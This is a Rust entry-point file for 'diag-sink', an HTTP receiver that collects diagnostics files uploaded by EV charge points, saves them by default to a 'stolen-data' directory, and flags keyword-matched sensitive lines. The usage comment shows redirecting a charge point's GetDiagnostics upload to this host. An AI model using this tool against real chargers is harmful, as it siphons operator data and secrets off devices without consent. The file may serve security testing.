//! Diag Sink - receiver for uploaded diagnostics
//!
//! # Usage
//!
//! ```bash
//! # Listen on :3001, store under ./stolen-data
//! diag-sink
//!
//! # Point a charge point at it
//! #   GetDiagnostics { "location": "http://<host>:3001/upload" }
//! diag-sink --port 8088 --dir /tmp/uploads
//! ```

use std::net::SocketAddr;
use std::path::PathBuf;

use clap::Parser;
use diag_sink::{next_event, serve, SinkEvent, SinkState};
use tokio::net::TcpListener;
use tracing::{info, warn};
use tracing_subscriber::EnvFilter;

/// HTTP receiver for diagnostics uploads
#[derive(Parser, Debug)]
#[command(author, version, about, long_about = None)]
struct Args {
    /// Listen port
    #[arg(short, long, env = "SINK_PORT", default_value = "3001")]
    port: u16,

    /// Bind address
    #[arg(long, default_value = "0.0.0.0")]
    bind: String,

    /// Directory for received files (created if missing)
    #[arg(short, long, env = "SINK_DIR", default_value = "stolen-data")]
    dir: PathBuf,

    /// Log level (trace, debug, info, warn, error); RUST_LOG wins if set
    #[arg(short, long, default_value = "info")]
    log_level: String,
}

#[tokio::main]
async fn main() -> Result<(), Box<dyn std::error::Error>> {
    let args = Args::parse();

    let filter =
        EnvFilter::try_from_default_env().unwrap_or_else(|_| EnvFilter::new(&args.log_level));
    tracing_subscriber::fmt()
        .with_env_filter(filter)
        .with_target(false)
        .init();

    tokio::fs::create_dir_all(&args.dir).await?;

    let addr: SocketAddr = format!("{}:{}", args.bind, args.port).parse()?;
    let listener = TcpListener::bind(addr).await?;
    let state = SinkState::new(&args.dir);

    info!("Diag sink listening on http://{}", listener.local_addr()?);
    info!("Upload endpoint: http://{}/upload", listener.local_addr()?);
    info!("Storing files in {}", args.dir.display());

    let mut events = state.subscribe();
    tokio::spawn(async move {
        while let Some(event) = next_event(&mut events).await {
            report(&event);
        }
    });

    serve(listener, state, async {
        let _ = tokio::signal::ctrl_c().await;
        info!("Shutting down");
    })
    .await?;

    Ok(())
}

fn report(event: &SinkEvent) {
    match event {
        SinkEvent::UploadReceived {
            filename,
            original_name,
            size,
            source_addr,
            analysis,
        } => {
            info!(
                "{} ({} bytes) from {} stored as {}",
                original_name, size, source_addr, filename
            );
            if let Some(files) = &analysis.extracted_files {
                info!("Archive entries: {}", files.join(", "));
            }
            if analysis.matches.is_empty() {
                info!("No sensitive lines found");
            }
            for m in &analysis.matches {
                warn!("[{}] line {}: {}", m.keyword, m.line, m.context);
            }
        }
    }
}
